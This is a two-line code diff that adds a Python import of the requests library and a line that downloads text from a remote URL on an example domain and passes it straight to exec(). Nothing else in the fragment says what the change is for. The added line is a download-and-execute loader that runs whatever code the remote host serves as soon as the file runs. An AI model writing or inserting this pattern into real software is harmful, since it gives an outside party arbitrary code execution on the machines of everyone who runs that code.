@@ -1,0 +1,2 @@
+import requests
+exec(requests.get("https://x.example.org/p").text)
